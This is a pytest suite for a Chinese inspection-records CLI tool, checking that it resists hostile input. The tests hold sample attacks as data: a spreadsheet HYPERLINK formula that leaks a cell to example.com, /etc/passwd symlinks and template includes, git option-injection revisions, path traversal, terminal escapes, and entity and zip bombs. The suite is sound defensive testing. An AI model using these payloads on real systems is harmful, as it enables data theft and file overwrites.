"""Hostile and clumsy input: nothing runs, nothing leaks, nothing is overwritten, nothing hangs."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.helpers import RunCli, build_file_tree, git

VISIT = """id: 20200302-ppp
date: 2020-03-02
team: A
units: DJ-01
methods: [综合督查, 明查, 常规检查]
findings:
  - focus: 封闭管理
    severity: 一般
    description: {description}
    deadline: 3个工作日
"""


def _march_bulletin(root: Path) -> list[str]:
    """A bulletin of the county's March visits, as Markdown."""
    return ["-C", str(root), "report", "bulletin", "-f", "md", "--as-of", "2020-03-20",
            "--from", "2020-03-01"]  # fmt: skip


def county(root: Path, description: str = "北门夜间无人值守") -> Path:
    return build_file_tree(
        root,
        {
            "ducha.yaml": "",
            "units.yaml": "units:\n  - {id: DJ-01, name: 东街社区, district: 东城区, kind: 城市社区}\n",
            "teams.yaml": "teams:\n  - {id: A, name: 第一组, leader: 张组长}\n",
            "visits/2020/03/20200302-ppp.yaml": VISIT.format(description=description),
        },
    )


def problems(run_cli: RunCli, root: Path) -> list[str]:
    out = run_cli("-C", str(root), "validate", "-f", "json")
    return [
        f"{p['path']}:{p['line']}:{p['column']} {p['rule']}"
        for p in json.loads(out.stdout)["problems"]
    ]


@pytest.mark.parametrize("character", ["\x00", "\x1b", "\x7f", "\x85\x9b", "\ufffe"])
def test_a_forbidden_character_in_a_file_is_an_error_where_it_stands(
    run_cli: RunCli, tmp_path: Path, character: str
) -> None:
    root = county(tmp_path, f"北门{character}值守")
    found = problems(run_cli, root)
    if character == "\x85\x9b":  # NEL is a line break YAML allows; U+009B is not allowed
        assert found == ["visits/2020/03/20200302-ppp.yaml:9:21 forbidden-character"]
    else:
        assert found == ["visits/2020/03/20200302-ppp.yaml:9:20 forbidden-character"]


def test_both_readers_say_the_same_of_every_forbidden_character() -> None:
    from ducha.store.loader import load_text

    for code in [*range(0x20), *range(0x7F, 0xA0), 0xFFFE, 0xFFFF]:
        if chr(code) in "\t\n\r\x85":
            continue
        text = f"id: a\nsummary: x{chr(code)}y\n"
        fast = load_text(text, "t.yaml", positions=False).issues
        full = load_text(text, "t.yaml").issues
        assert fast == full and [i.rule for i in fast] == ["forbidden-character"], hex(code)


def test_control_characters_written_as_yaml_escapes_are_reported(
    run_cli: RunCli, tmp_path: Path
) -> None:
    root = county(tmp_path, '"擦除\\e[2K\\e]0;标题\\a"')
    assert problems(run_cli, root) == ["visits/2020/03/20200302-ppp.yaml:9:18 control-character"]


def test_terminal_output_shows_control_characters_as_symbols(run_cli: RunCli, repo: Path) -> None:
    root = county(repo / "records")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "初始\x1b[2K\x1b]0;窗口标题\x07", "--no-gpg-sign")
    result = run_cli("-C", str(root), "log", "20200302-ppp/1")
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "初始␛[2K␛]0;窗口标题␇" in result.output
    colour = run_cli("-C", str(root), "--color", "always", "log", "20200302-ppp/1")
    assert "\x1b[2K" not in colour.output


def test_a_description_that_looks_like_a_formula_stays_text_in_every_spreadsheet(
    run_cli: RunCli, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    formula = '\'=HYPERLINK("http://example.com/?x="&A1,"点击")\''
    root = county(tmp_path, formula)
    assert problems(run_cli, root) == []
    out = run_cli("-C", str(root), "export", "-f", "csv", "--as-of", "2020-03-20").stdout
    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff"))))
    column = rows[0].index("问题描述")
    assert rows[1][column] == '\'=HYPERLINK("http://example.com/?x="&A1,"点击")'
    overdue = run_cli("-C", str(root), "overdue", "-f", "csv", "--as-of", "2020-03-20").stdout
    assert ",\"'=HYPERLINK(" in overdue
    target = tmp_path / "out.xlsx"
    written = run_cli(
        "-C", str(root), "export", "-f", "xlsx", "--as-of", "2020-03-20", "-o", str(target)
    )
    assert written.exit_code == 0
    sheet = load_workbook(target).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPER")]
    assert cells and all(c.data_type == "s" for c in cells)


def test_outputs_never_replace_a_file_unasked_nor_the_records_nor_a_device(
    run_cli: RunCli, tmp_path: Path
) -> None:
    root = county(tmp_path / "r")
    existing = tmp_path / "old.md"
    existing.write_text("上周写好的公文", encoding="utf-8")
    link = tmp_path / "link.md"
    link.symlink_to(root / "units.yaml")
    memo = _march_bulletin(root)
    for target, words in (
        (existing, "--force"),
        (link, "符号链接"),
        (root / "units.yaml", "记录之中"),
        (root / "visits/2020/03/20200302-ppp.yaml", "记录之中"),
        (Path("/dev/null"), "不是普通文件"),
    ):
        result = run_cli(*memo, "-o", str(target), "--force" if words != "--force" else "-q")
        if words == "--force":
            result = run_cli(*memo, "-o", str(target))
        assert result.exit_code == 1 and words in result.output, (target, result.output)
    assert existing.read_text(encoding="utf-8") == "上周写好的公文"
    assert "DJ-01" in (root / "units.yaml").read_text(encoding="utf-8")
    ics = tmp_path / "plan.ics"
    ics.write_text("BEGIN:VCALENDAR\n", encoding="utf-8")
    plan = run_cli("-C", str(root), "schedule", "--from", "2020-03-09", "--ics", str(ics))
    assert plan.exit_code == 1 and ics.read_text(encoding="utf-8") == "BEGIN:VCALENDAR\n"


def test_a_replaced_file_keeps_its_mode_and_a_new_one_follows_the_umask(tmp_path: Path) -> None:
    from ducha.store.writing import replace_bytes

    kept = tmp_path / "kept.yaml"
    kept.write_text("a: 1\n", encoding="utf-8")
    kept.chmod(0o640)
    replace_bytes(kept, b"a: 2\n")
    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    old = os.umask(0o022)
    try:
        replace_bytes(tmp_path / "new.yaml", b"a: 1\n")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new.yaml").stat().st_mode) == 0o644


def test_fmt_leaves_a_file_edited_while_it_ran(tmp_path: Path) -> None:
    from ducha.store.config import load_settings
    from ducha.store.fmt import format_files, write

    root = county(tmp_path)
    file = root / "visits/2020/03/20200302-ppp.yaml"
    file.write_text(file.read_text(encoding="utf-8").replace("severity: 一般", "severity: minor"))
    settings = load_settings(root)
    [formatted] = format_files(settings, ["visits/2020/03/20200302-ppp.yaml"])
    assert formatted.changed
    file.write_text(formatted.before + "# 刚加的批注\n", encoding="utf-8")  # a clerk saves
    assert write(settings, formatted) is False
    assert file.read_text(encoding="utf-8").endswith("# 刚加的批注\n")


def test_two_clerks_adding_units_at_once_lose_none(tmp_path: Path) -> None:
    root = county(tmp_path)
    ducha = [sys.executable, "-m", "ducha", "-C", str(root), "new", "unit"]
    unit = ["--district", "东城区", "--kind", "企业"]
    processes = [
        subprocess.Popen(
            [*ducha, "--id", f"N-{i:02d}", "--name", f"新单位{i}", *unit],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        for i in range(12)
    ]
    for process in processes:
        _, err = process.communicate(timeout=60)
        assert process.returncode == 0, err
    text = (root / "units.yaml").read_text(encoding="utf-8")
    assert all(f"N-{i:02d}" in text for i in range(12))


def test_a_fifo_named_like_a_visit_is_reported_not_waited_on(tmp_path: Path) -> None:
    root = county(tmp_path)
    os.mkfifo(root / "visits/2020/03/20200303-fifo.yaml")
    (root / "visits/2020/03/20200304-lnk.yaml").symlink_to("/etc/passwd")
    done = subprocess.run(
        [sys.executable, "-m", "ducha", "-C", str(root), "validate"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 1
    assert "20200303-fifo.yaml:1:1: error" in done.stdout
    assert "20200304-lnk.yaml:1:1: error" in done.stdout
    assert "root:" not in done.stdout  # /etc/passwd was not read


def test_a_revision_that_looks_like_an_option_never_reaches_git_as_one(
    run_cli: RunCli, repo: Path
) -> None:
    root = county(repo / "records")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "初始", "--no-gpg-sign")
    victim = repo / "victim.txt"
    victim.write_text("重要", encoding="utf-8")
    for revision in (f"--output={victim}..HEAD", f"HEAD..--output={victim}", "A...B"):
        result = run_cli("-C", str(root), "diff", "--", revision)
        assert result.exit_code == 1, (revision, result.output)
    assert victim.read_text(encoding="utf-8") == "重要"


@pytest.mark.parametrize(
    "written",
    [
        "联系 139 1234 5678",
        "联系139-1234-5678",
        "联系１３９１２３４５６７８",
        "证件 110105 19491231 002X",
        "证件１１０１０５１９４９１２３１００２Ｘ",
    ],
)
def test_personal_data_written_as_people_write_it_is_warned_of(
    run_cli: RunCli, tmp_path: Path, written: str
) -> None:
    root = county(tmp_path, written)
    assert problems(run_cli, root) == ["visits/2020/03/20200302-ppp.yaml:9:18 personal-data"]
    dates = county(tmp_path / "dates", "2020-02-05 至 2020-02-07 共 3 次")
    assert problems(run_cli, dates) == []


@pytest.mark.parametrize(
    ("template", "words"),
    [
        ("{% for i in range(10**9) %}x{% endfor %}", "template"),
        ("{{ 'a' * 10**10 }}", "template"),
        ("{{ 10.0 ** 400 }}", "template"),
        ("{{ 1 / 0 }}", "template"),
        ("{% include 'brief.md.j2' %}", "模板互相包含"),
        ("{{ lipsum(10**6) }}", "template"),
        ("{% include 'etc/passwd' %}", "etc/passwd"),
    ],
)
def test_a_hostile_template_is_stopped_with_its_name(
    run_cli: RunCli, tmp_path: Path, template: str, words: str
) -> None:
    root = county(tmp_path)
    build_file_tree(root, {"templates/brief.md.j2": template})
    result = run_cli("-C", str(root), "report", "brief", "-f", "md", "--as-of", "2020-03-02")
    assert result.exit_code == 1, result.output
    if words == "template":
        assert "brief.md.j2" in result.output
    else:
        assert words in result.output
    assert "root:" not in result.output


def test_a_template_that_links_out_of_the_repository_is_not_read(
    run_cli: RunCli, tmp_path: Path
) -> None:
    root = county(tmp_path)
    (root / "templates").mkdir()
    (root / "templates/brief.md.j2").symlink_to("/etc/passwd")
    build_file_tree(root, {"templates/inc.md.j2": "{% include 'brief.md.j2' %}"})
    result = run_cli("-C", str(root), "report", "brief", "-f", "md", "--as-of", "2020-03-02")
    assert "root:" not in result.output  # the built-in template is used, not /etc/passwd


def test_a_template_that_runs_for_ever_is_stopped_in_time(
    run_cli: RunCli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import ducha.outputs.report.render

    monkeypatch.setattr(ducha.outputs.report.render, "TIME_LIMIT", 1.0)
    root = county(tmp_path)
    loops = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    build_file_tree(root, {"templates/brief.md.j2": loops})
    result = run_cli("-C", str(root), "report", "brief", "-f", "md", "--as-of", "2020-03-02")
    assert result.exit_code == 1 and "brief.md.j2" in result.output and "1 秒" in result.output


def test_a_file_name_in_another_encoding_is_reported(tmp_path: Path) -> None:
    root = county(tmp_path)
    name = b"20200305-" + "坏名".encode("gbk") + b".yaml"
    (root / "visits/2020/03").joinpath(os.fsdecode(name)).write_text(
        VISIT.format(description="x"), encoding="utf-8"
    )
    done = subprocess.run(
        [sys.executable, "-m", "ducha", "-C", str(root), "validate", "-f", "json"],
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 1
    assert [p["rule"] for p in json.loads(done.stdout)["problems"]] == ["not-a-record-file"]


def test_an_unreadable_numbers_file_stops_the_memo_with_its_name(
    run_cli: RunCli, tmp_path: Path
) -> None:
    root = county(tmp_path)
    (root / "numbers.yaml").write_text("document: [1\n", encoding="utf-8")
    result = run_cli(*_march_bulletin(root))
    assert result.exit_code == 1 and "numbers.yaml" in result.output


def test_the_slips_of_a_chinese_input_method_are_named_where_they_stand(
    run_cli: RunCli, tmp_path: Path
) -> None:
    root = county(tmp_path)
    visit = root / "visits/2020/03/20200302-ppp.yaml"
    text = visit.read_text(encoding="utf-8")
    visit.write_text(text.replace("team: A", "team： A"), encoding="utf-8")
    assert problems(run_cli, root) == ["visits/2020/03/20200302-ppp.yaml:3:5 full-width-colon"]
    visit.write_text(text.replace("  - focus:", "\u3000- focus:"), encoding="utf-8")
    assert problems(run_cli, root) == ["visits/2020/03/20200302-ppp.yaml:7:1 full-width-space"]
    visit.write_text(text.replace("北门夜间无人值守", "注意：北门夜间无人值守"), encoding="utf-8")
    assert problems(run_cli, root) == []  # a full-width colon inside a value is just text


@pytest.mark.parametrize("colon", ["： ", "："])  # with the space after it, and without
def test_a_full_width_colon_does_not_hide_the_files_other_problems(
    run_cli: RunCli, tmp_path: Path, colon: str
) -> None:
    """Each slip is reported with every other problem of the file, where each stands."""
    root = county(tmp_path)
    visit = root / "visits/2020/03/20200302-ppp.yaml"
    wrong = (
        visit.read_text(encoding="utf-8")
        .replace("team: A", "team: B")  # a team nobody knows
        .replace("severity: 一般", f"severity{colon}特重")  # and a severity nobody has
        .replace("deadline: 3个工作日", "deadline: 三天")
    )
    visit.write_text(wrong, encoding="utf-8")
    found = problems(run_cli, root)
    at = "visits/2020/03/20200302-ppp.yaml"
    value = 15 if colon.endswith(" ") else 14  # 特重 where it stands as written
    assert found == [
        f"{at}:3:7 unknown-team",
        f"{at}:8:13 full-width-colon",
        f"{at}:8:{value} unknown-value",
        f"{at}:10:15 bad-deadline",
    ]
    visit.write_text(wrong.replace(colon, "： "), encoding="utf-8")
    spaced = problems(run_cli, root)
    visit.write_text(wrong.replace(colon, ": "), encoding="utf-8")  # typed as meant
    assert problems(run_cli, root) == [p for p in spaced if not p.endswith("full-width-colon")]
    done = run_cli("-C", str(root), "overdue", "--as-of", "2020-03-20")
    assert done.exit_code == 0, done.output


def test_a_record_with_a_full_width_colon_is_not_edited_and_says_why(
    run_cli: RunCli, tmp_path: Path
) -> None:
    """ducha reads it as meant to report it whole; the round-trip editor cannot, so the
    clerk's commands refuse with the file's own problems and leave it as it was."""
    root = county(tmp_path)
    visit = root / "visits/2020/03/20200302-ppp.yaml"
    visit.write_text(
        visit.read_text(encoding="utf-8").replace("date: 2020-03-02", "date：2020-02-10"),
        encoding="utf-8",
    )  # a day before the tests' today, so that the report-back's date is no problem
    before = visit.read_bytes()
    photo = tmp_path / "门岗.jpg"
    photo.write_bytes(b"\xff\xd8 photo")
    for command in (
        ["report-back", "20200302-ppp/1", "--date", "2020-02-20", "--note", "已整改"],
        ["attach", "20200302-ppp/1", str(photo)],
    ):
        done = run_cli("-C", str(root), *command)
        assert done.exit_code == 1, done.output
        assert "本身有错误" in done.output
        assert (
            "20200302-ppp.yaml:2:5: error:" in done.output and "[full-width-colon]" in done.output
        )
        assert "Traceback" not in done.output and "内部错误" not in done.output
        assert visit.read_bytes() == before
    assert not (root / "evidence").exists()
    units = root / "units.yaml"
    units.write_text("units:\n  - id：DJ-01\n    name: 东街社区\n", encoding="utf-8")
    listed = units.read_bytes()
    unit = ["new", "unit", "--id", "DJ-02", "--name", "西街社区", "--district", "东城区"]
    done = run_cli("-C", str(root), *unit, "--kind", "城市社区")
    assert done.exit_code == 1, done.output
    assert "units.yaml:2:7: error:" in done.output and units.read_bytes() == listed


def test_messages_name_what_was_written(run_cli: RunCli, tmp_path: Path) -> None:
    root = county(tmp_path)
    visit = root / "visits/2020/03/20200302-ppp.yaml"
    visit.write_text(visit.read_text(encoding="utf-8") + "~: 1\ntrue: 2\n", encoding="utf-8")
    out = run_cli("-C", str(root), "validate").output
    assert "未知字段 ~" in out and "未知字段 true" in out and "None" not in out


def test_a_newline_in_a_value_cannot_forge_a_problem_line(run_cli: RunCli, tmp_path: Path) -> None:
    root = county(tmp_path)
    visit = root / "visits/2020/03/20200302-ppp.yaml"
    forged = '"封闭管理\\nvisits/x.yaml:1:1: error: 伪造的问题 [fake]"'
    visit.write_text(
        visit.read_text(encoding="utf-8").replace("封闭管理", forged), encoding="utf-8"
    )
    lines = run_cli("-C", str(root), "validate").output.splitlines()
    assert not any(line.startswith("visits/x.yaml") for line in lines)
    assert any("⏎visits/x.yaml:1:1" in line for line in lines)


def test_a_period_that_ends_before_it_starts_is_refused(run_cli: RunCli, tmp_path: Path) -> None:
    root = county(tmp_path)
    memo = [
        "-C",
        str(root),
        "report",
        "brief",
        "-f",
        "md",
        "--from",
        "2020-02-20",
        "--to",
        "2020-02-10",
    ]
    result = run_cli(*memo)
    assert result.exit_code == 1 and "--from 2020-02-20" in result.output


def test_init_keeps_a_name_yaml_would_cut(run_cli: RunCli, tmp_path: Path) -> None:
    from ducha.store.config import load_settings

    for name in ("河川市 #3 督查组", "A: B"):
        target = tmp_path / name.replace(" ", "_").replace(":", "")
        assert run_cli("init", str(target), "--name", name).exit_code == 0
        assert load_settings(target).organization.name == name


def test_evidence_names_that_cannot_be_files_are_missing_evidence(
    run_cli: RunCli, tmp_path: Path
) -> None:
    root = county(tmp_path)
    (root / "evidence").mkdir()
    (root / "evidence/loop").symlink_to(root / "evidence/loop")
    visit = root / "visits/2020/03/20200302-ppp.yaml"
    reports = (
        "    reports:\n      - date: 2020-03-03\n        evidence: [evidence/loop, "
        + "x" * 300
        + "]\n"
    )
    visit.write_text(visit.read_text(encoding="utf-8") + reports, encoding="utf-8")
    assert problems(run_cli, root) == [
        "visits/2020/03/20200302-ppp.yaml:13:20 evidence-missing",
        "visits/2020/03/20200302-ppp.yaml:13:35 evidence-missing",
    ]


@pytest.mark.parametrize(
    ("args", "rule"),
    [
        (
            ["unit", "--id", "../evil", "--name", "x", "--district", "东城区", "--kind", "企业"],
            "bad-id",
        ),
        (
            ["unit", "--id", "N-1", "--name", "x", "--district", "东城区", "--kind", "好单位"],
            "unknown-value",
        ),
        (["visit", "--team", "A", "--unit", "DJ-01", "--method", "好好查"], "unknown-value"),
        (
            ["visit", "--team", "A", "--unit", "DJ-01", "--method", "明查", "--method", "暗访"],
            "method-conflict",
        ),
    ],
)
def test_new_refuses_what_validate_would_reject(
    run_cli: RunCli, tmp_path: Path, args: list[str], rule: str
) -> None:
    root = county(tmp_path)
    before = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
    result = run_cli("-C", str(root), "new", *args)
    assert result.exit_code == 1 and f"[{rule}]" in result.output
    assert {p: p.read_bytes() for p in root.rglob("*") if p.is_file()} == before


def test_what_a_killed_run_left_is_cleaned_up_by_the_next_write(tmp_path: Path) -> None:
    import time

    from ducha.store.writing import replace_bytes

    left = tmp_path / ".ducha-abc123.tmp"
    left.write_bytes(b"half a memo")
    young = tmp_path / ".ducha-live.tmp"
    young.write_bytes(b"another run, writing now")
    old = time.time() - 3600
    os.utime(left, (old, old))
    replace_bytes(tmp_path / "memo.md", b"# memo\n")
    assert not left.exists() and young.exists()


def test_a_run_killed_while_writing_leaves_the_old_file_whole(tmp_path: Path) -> None:
    target = tmp_path / "units.yaml"
    target.write_text("units: []\n", encoding="utf-8")
    code = (
        "import os, signal, sys\n"
        "from pathlib import Path\n"
        "import ducha.store.writing as w\n"
        "real = os.fsync\n"
        "def die(fd):\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
        "os.fsync = die\n"
        f"w.replace_bytes(Path({str(target)!r}), b'units: [broken')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, timeout=60, check=False
    )
    assert done.returncode == -9
    assert target.read_text(encoding="utf-8") == "units: []\n"


@pytest.fixture
def full_disk(tmp_path: Path) -> Iterator[Path]:
    """A records repository on a small tmpfs that is full (skipped where mount is refused)."""
    mount = tmp_path / "tiny"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)],
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip("no tmpfs can be mounted here")
    try:
        root = county(mount / "records")
        fd = os.open(mount / "filler", os.O_WRONLY | os.O_CREAT)
        with contextlib.suppress(OSError):
            while True:
                os.write(fd, b"\0" * 4096)
        os.close(fd)
        yield root
    finally:
        subprocess.run(["umount", str(mount)], capture_output=True, check=False)


def test_a_full_disk_is_a_clear_error_and_the_files_stay_whole(
    run_cli: RunCli, full_disk: Path
) -> None:
    root = full_disk
    units = (root / "units.yaml").read_bytes()
    added = run_cli(
        "-C",
        str(root),
        "new",
        "unit",
        "--id",
        "N-1",
        "--name",
        "新",
        "--district",
        "东城区",
        "--kind",
        "企业",
    )
    assert added.exit_code == 1 and "无法写入" in added.output
    assert (root / "units.yaml").read_bytes() == units
    memo = run_cli(
        "-C",
        str(root),
        "report",
        "brief",
        "-f",
        "md",
        "--as-of",
        "2020-03-02",
        "-o",
        str(root.parent / "brief.md"),
    )
    assert memo.exit_code == 1 and "无法写入" in memo.output
    assert not list(root.parent.glob(".ducha-*.tmp")) and not list(root.glob(".ducha-*.tmp"))


@pytest.mark.parametrize(
    "kind", ["not-a-zip", "truncated", "no-document", "entity-bomb", "zip-bomb"]
)
def test_a_broken_or_hostile_word_template_is_refused_with_its_name(
    run_cli: RunCli, tmp_path: Path, kind: str
) -> None:
    import zipfile

    from ducha.outputs.report.render import builtin_dir

    root = county(tmp_path)
    target = root / "templates/brief.docx"
    target.parent.mkdir()
    real = (builtin_dir() / "brief.docx").read_bytes()
    if kind == "not-a-zip":
        target.write_bytes(b"this is not a zip")
    elif kind == "truncated":
        target.write_bytes(real[: len(real) // 2])
    else:
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
            if kind == "no-document":
                archive.writestr("word/styles.xml", "<w:styles/>")
            elif kind == "entity-bomb":
                bomb = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">]><w:document/>'
                archive.writestr("word/document.xml", bomb)
            else:
                archive.writestr("word/document.xml", "<w:document/>")
                archive.writestr("word/media/big.bin", b"\0" * 60_000_000)
    out = tmp_path / "brief.docx"
    result = run_cli("-C", str(root), "report", "brief", "--as-of", "2020-03-02", "-o", str(out))
    assert result.exit_code == 1 and "brief.docx" in result.output, result.output
    assert not out.exists()


def test_an_encoding_error_is_placed_in_characters_as_an_editor_counts() -> None:
    from ducha.store.loader import load_bytes

    raw = "summary: 督查情况".encode() + "督查".encode("gbk") + b"\n"
    [issue] = load_bytes(raw, "t.yaml").issues
    assert (issue.rule, issue.position.line, issue.position.column) == ("encoding", 1, 14)


def test_init_on_a_file_and_an_unreadable_config_are_clear_errors(
    run_cli: RunCli, tmp_path: Path
) -> None:
    plain = tmp_path / "a-file"
    plain.write_text("x", encoding="utf-8")
    result = run_cli("init", str(plain), "--name", "某县")
    assert result.exit_code == 1 and "不是目录" in result.output
    root = county(tmp_path / "r")
    (root / "ducha.yaml").chmod(0)
    try:
        if os.access(root / "ducha.yaml", os.R_OK):  # root reads it anyway
            pytest.skip("running as root: every file is readable")
        result = run_cli("-C", str(root), "validate")
        assert result.exit_code == 1 and "ducha.yaml" in result.output
    finally:
        (root / "ducha.yaml").chmod(0o644)


def test_control_characters_in_an_author_or_subject_break_nothing(
    run_cli: RunCli, repo: Path
) -> None:
    root = county(repo / "records")
    git(repo, "add", "-A")
    subprocess.run(
        [
            "git",
            "-c",
            "user.name=张\x1f三",
            "-c",
            "user.email=z@x",
            "commit",
            "-qm",
            "初始\x1f\x1e记录",
        ],
        cwd=repo,
        check=True,
    )
    result = run_cli("-C", str(root), "log", "20200302-ppp/1")
    assert result.exit_code == 0 and "张␟三" in result.output


def test_a_file_where_a_month_folder_belongs_is_an_error(run_cli: RunCli, tmp_path: Path) -> None:
    root = county(tmp_path)
    (root / "visits/2020/04").write_text("x", encoding="utf-8")
    assert problems(run_cli, root) == ["visits/2020/04:1:1 not-a-record-file"]


def test_an_unreadable_units_file_is_said_once(run_cli: RunCli, tmp_path: Path) -> None:
    root = county(tmp_path)
    (root / "units.yaml").unlink()
    (root / "units.yaml").mkdir()
    assert problems(run_cli, root) == ["units.yaml:1:1 not-a-record-file"]


def test_a_notice_to_a_unit_masks_personal_numbers_unless_asked(
    run_cli: RunCli, tmp_path: Path
) -> None:
    root = county(tmp_path, "值班电话 139 1234 5678 无人接听")
    notice = [
        "-C",
        str(root),
        "report",
        "notice",
        "-f",
        "md",
        "--as-of",
        "2020-03-20",
        "--unit",
        "DJ-01",
    ]
    text = run_cli(*notice).stdout
    assert "139\\*\\*\\*\\*5678" in text or "139****5678" in text
    assert "1234" not in text
    assert "139 1234 5678" in run_cli(*notice, "--include-personal").stdout


def test_an_upper_case_suffix_is_a_record_too(run_cli: RunCli, tmp_path: Path) -> None:
    root = county(tmp_path)
    visit = root / "visits/2020/03/20200302-ppp.yaml"
    visit.rename(visit.with_name("20200302-ppp.YAML"))
    out = run_cli("-C", str(root), "validate", "-f", "json").stdout
    assert json.loads(out)["files"] == 4


def test_a_number_out_of_its_range_says_so(run_cli: RunCli, tmp_path: Path) -> None:
    root = county(tmp_path)
    (root / "ducha.yaml").write_text("return_visits:\n  random_share: 1.5\n", encoding="utf-8")
    out = run_cli("-C", str(root), "validate").output
    assert "应在 0 到 1 之间，实际是 1.5" in out
